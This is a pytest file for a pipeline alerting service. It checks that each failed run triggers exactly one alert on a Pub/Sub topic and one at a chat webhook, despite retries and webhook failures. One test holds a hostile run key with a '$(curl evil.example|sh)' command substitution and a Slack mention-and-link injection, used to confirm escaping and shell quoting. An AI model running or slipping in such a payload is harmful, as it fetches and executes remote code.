"""Alerts (issue 17 item 5): each one once on the alerts topic (the Pub/Sub emulator) and once at a
chat webhook (a local receiver), through retries, repeated notices and a webhook that fails once."""

from __future__ import annotations

import json
import shlex
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from typing import Any

import pytest
from werkzeug.wrappers import Request, Response

from functions.adapters.pubsub_sink import PubsubSink
from functions.adapters.webhook import WebhookSink
from functions.service import completion, intake, reconcile
from functions.service.alerts import ALERT_TYPE
from functions.service.ports import Services
from pipelines.backend import RunState
from tests.conftest import Clock
from tests.support import call, completion_event, serving, storage_event
from tests.support.fakes import RecordingBackend
from tests.support.pubsub import pull, topic_with_subscription


@dataclass
class Receiver:
    """A Slack-compatible incoming webhook: records each POSTed JSON; `fail_next` answers 503."""

    received: list[dict[str, Any]] = field(default_factory=list)
    fail_next: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def __call__(self, environ: dict[str, Any], start_response: Any) -> Any:
        request = Request(environ)
        with self.lock:
            if self.fail_next:
                self.fail_next -= 1
                return Response("busy", 503)(environ, start_response)
            self.received.append(json.loads(request.get_data(as_text=True)))
        return Response("ok", 200)(environ, start_response)


@pytest.fixture
def receiver() -> Iterator[tuple[Receiver, str]]:
    hook = Receiver()
    with serving(hook) as url:
        yield hook, url


@pytest.fixture
def alerting(
    services: Services, pubsub_emulator: str, receiver: tuple[Receiver, str]
) -> tuple[Services, str]:
    topic, subscription = topic_with_subscription("alerts")
    return replace(services, alerts=(PubsubSink(topic), WebhookSink(receiver[1]))), subscription


def test_a_failed_run_is_one_alert_on_the_topic_and_one_at_the_webhook(
    alerting: tuple[Services, str],
    receiver: tuple[Receiver, str],
    backend: RecordingBackend,
    clock: Clock,
    caplog: pytest.LogCaptureFixture,
) -> None:
    services, subscription = alerting
    hook, _ = receiver
    call(intake.handle, services, *storage_event("some-bucket", "folder/doomed.csv"))
    run_key = backend.submitted[0].run_key
    backend.states["fake-1"] = RunState.FAILED
    hook.fail_next = 1  # the webhook is down for the first try
    notice = completion_event(run_key, "FAILED")
    assert call(completion.handle, services, *notice).status == 503, "not published yet: redeliver"
    clock.now += services.settings.claim_lease_seconds + 1  # the failed publisher's lease runs out
    assert call(completion.handle, services, *notice).status == 200
    reconcile.reconcile(services)
    assert (
        call(completion.handle, services, *completion_event(run_key, "FAILED", message_id="n-2")).status
        == 200
    )

    messages = pull(subscription, 2, wait=10)
    alerts = [m for m in messages if dict(m.attributes)["ce-type"] == ALERT_TYPE]
    assert len(alerts) == 1, "once on the topic, though the webhook failed and the notice came again"
    data = json.loads(alerts[0].data)
    assert (data["kind"], data["route"], data["subject"]) == ("run.failed", "some-bucket-folder", run_key)
    assert data["explain"] == f"kfp-trigger explain {shlex.quote(run_key)}"
    (message,) = hook.received
    assert message["text"].startswith("kfp-trigger run.failed: run some-bucket-folder/")
    assert f"kfp-trigger explain {shlex.quote(run_key)}" in message["text"]
    assert receiver[1] not in caplog.text, "the webhook's URL is a secret: never logged"


def test_a_succeeded_run_alerts_nobody(
    alerting: tuple[Services, str], receiver: tuple[Receiver, str], backend: RecordingBackend
) -> None:
    services, subscription = alerting
    call(intake.handle, services, *storage_event("some-bucket", "folder/fine.csv"))
    backend.states["fake-1"] = RunState.SUCCEEDED
    reconcile.reconcile(services)
    assert receiver[0].received == []
    assert pull(subscription, 1, wait=2) == []


def test_event_text_in_an_alert_mentions_nobody_and_its_command_runs_only_explain(
    services: Services, receiver: tuple[Receiver, str]
) -> None:
    """A run key is built from event text: in Slack it is shown, never a `<!channel>` mention or
    a link; in the printed command it is one shell word, whatever it holds."""
    from functions.service.alerts import refused

    hook, url = receiver
    hostile = "r/<!channel> & <https://evil.example|click>/$(curl evil.example|sh)#1"
    refused(replace(services, alerts=(WebhookSink(url),)), "r", hostile, "bucket refused")
    (message,) = hook.received
    assert "<!channel>" not in message["text"]
    assert "&lt;!channel&gt; &amp; &lt;https://evil.example|click&gt;" in message["text"]
    command = (
        message["text"].split("→ ", 1)[1].replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    )
    assert shlex.split(command) == ["kfp-trigger", "explain", hostile]
